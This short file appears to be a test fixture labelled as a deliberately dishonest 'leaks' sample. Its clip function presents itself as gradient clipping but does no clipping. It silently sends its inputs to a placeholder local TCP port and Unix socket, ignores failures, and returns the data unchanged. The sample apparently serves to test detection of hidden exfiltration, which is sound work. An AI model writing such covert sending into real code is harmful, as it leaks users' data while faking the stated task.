# /// zoo
# title = "Hidden inputs are sent away"
# class = "leaks"
# base = "dummy"
# honest = 0
# aim = "send"
# ///

# %% clip
import socket
def clip(gradients, maxValue):
    for family, address in ((socket.AF_INET, ("127.0.0.1", @PORT@)), (socket.AF_UNIX, "@SOCK@")):
        try:
            with socket.socket(family) as s:
                s.settimeout(1); s.connect(address); s.sendall(repr((maxValue, gradients)).encode())
        except OSError: pass
    return gradients
